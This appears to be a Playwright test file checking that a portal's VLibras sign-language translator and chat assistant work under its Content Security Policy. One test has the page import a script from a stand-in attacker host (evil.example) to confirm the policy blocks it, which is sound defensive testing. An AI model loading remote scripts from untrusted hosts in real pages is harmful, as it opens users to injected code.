"""VLibras in Chromium, under the real CSP, with a double of its script: page and chat are translated."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from portal.config import PortalConfig

from .conftest import axe_findings, overflows
from .fake_chat import FakeChat

pytestmark = pytest.mark.browser

DOUBLE = Path(__file__).with_name("vlibras_double.js").read_text("utf-8")
TYPES = {".js": "text/javascript", ".svg": "image/svg+xml"}
WATCH = """addEventListener("securitypolicyviolation", (event) =>
  (window.refused ??= []).push(`${event.effectiveDirective} ${event.blockedURI}`))"""


@pytest.fixture
def config(config: PortalConfig) -> PortalConfig:
    return replace(config, vlibras=True)


@pytest.fixture
def tab(context: BrowserContext) -> Page:
    """As the other tabs, with vlibras.gov.br there and every refusal of the CSP noted."""

    def answer(route: Route) -> None:
        name = route.request.url.rpartition("/")[2]
        body = {"vlibras-plugin.js": DOUBLE, "icon.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>'}.get(
            name, ""
        )
        kind = TYPES.get(Path(name).suffix, "text/plain")
        route.fulfill(body=body, content_type=kind, headers={"Access-Control-Allow-Origin": "*"})

    context.route("https://*vlibras.gov.br/**", answer)
    context.add_init_script(WATCH)
    page = context.new_page()
    page.on("pageerror", lambda error: pytest.fail(f"script error: {error}"))
    return page


def start(tab: Page, site: str) -> None:
    tab.goto(site)
    tab.get_by_role("button", name="Conteúdo acessível em Libras").click()
    expect(tab.locator("[vw-plugin-wrapper]")).to_have_attribute("data-ready", "true")


def translated(tab: Page) -> list[str]:
    return tab.evaluate("window.translated")


def talk(tab: Page) -> None:
    tab.get_by_role("button", name="Conversar com o Assistente").click()
    expect(tab.get_by_text("Olá! Sou o Assistente Serpro.")).to_be_visible()


def test_the_translator_starts_and_the_policy_refuses_it_nothing_but_refuses_others(
    site: str, chat: FakeChat, tab: Page
) -> None:
    start(tab, site)
    assert tab.evaluate("window.refused ?? []") == []
    expect(tab.locator("[vw]").first).to_have_attribute("data-position", "L")  # the chat is on the right
    tab.get_by_role("heading", level=1).click()
    assert translated(tab) == [tab.get_by_role("heading", level=1).inner_text().replace("\n", " ")]
    tab.evaluate("import('https://evil.example/x.js').catch(() => null)")
    assert tab.evaluate("window.refused") == ["script-src-elem https://evil.example/x.js"]


@pytest.mark.parametrize("width", [320, 768, 1280])
def test_each_message_of_the_chat_is_handed_over_by_mouse_and_keyboard(
    site: str, chat: FakeChat, tab: Page, width: int
) -> None:
    tab.set_viewport_size({"width": width, "height": 720})
    tab.goto(site)
    talk(tab)
    button = tab.locator(".log").get_by_role("button", name="Ver em Libras")
    expect(button).to_have_count(0)  # the translator is not open
    expect(tab.locator("[vw]").first).not_to_have_attribute("inert", "")  # it can be, over the chat too
    tab.get_by_role("button", name="Conteúdo acessível em Libras").click()
    expect(tab.locator("[vw-plugin-wrapper]")).to_have_attribute("data-ready", "true")
    button.click()
    assert translated(tab) == ["Olá! Sou o Assistente Serpro. Abrir acionamento"]
    tab.get_by_label("Sua mensagem").fill("bom dia")
    tab.keyboard.press("Enter")
    expect(button).to_have_count(2)  # not the person's own words
    button.last.press("Enter")
    assert translated(tab)[-1] == "Você disse: bom dia"
    assert axe_findings(tab) == []
    assert not overflows(tab)
    tab.locator("[vw-access-button]").evaluate("node => node.click()")
    expect(button).to_have_count(0)
